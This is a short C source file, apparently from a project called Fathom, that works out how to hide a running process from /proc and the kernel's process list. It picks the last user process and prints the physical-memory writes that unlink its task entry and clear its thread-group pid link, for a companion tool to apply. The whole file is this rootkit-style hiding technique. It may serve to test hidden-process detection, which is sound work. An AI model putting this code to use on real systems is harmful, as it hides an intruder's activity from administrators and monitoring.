/* SPDX-License-Identifier: BSD-2-Clause-Patent */
/* Copyright (c) 2026 The Fathom authors */
/*
 * What an intruder who can write to the kernel's memory could do to hide a
 * process from listings of /proc and from the list of processes, while it goes
 * on: prints its number and name, and what change_memory.c is to change.
 *
 *   hide NUMBER NAME
 *   put PHYSICAL SIZE VALUE
 *
 * Lists pass over a number that is of no group of threads; who asks for the
 * number itself finds the process.
 */
#include <fathom/ids.h>

#include <linux/pid.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

int main(void)
{
	struct task_struct *p, *last = NULL;
	struct list_head *next, *prev;

	for_each_process (p)
		if (p->mm && p->pid > 1)
			last = p;
	if (!last)
		return 1;
	printf("hide %d %s\n", last->pid, last->comm);
	printf("put %lx 8 0\n",
	       __pa(&last->thread_pid->tasks[PIDTYPE_TGID].first));
	next = last->tasks.next;
	prev = last->tasks.prev;
	printf("put %lx 8 %lx\n", __pa(&prev->next), (unsigned long)next);
	printf("put %lx 8 %lx\n", __pa(&next->prev), (unsigned long)prev);
	return 0;
}
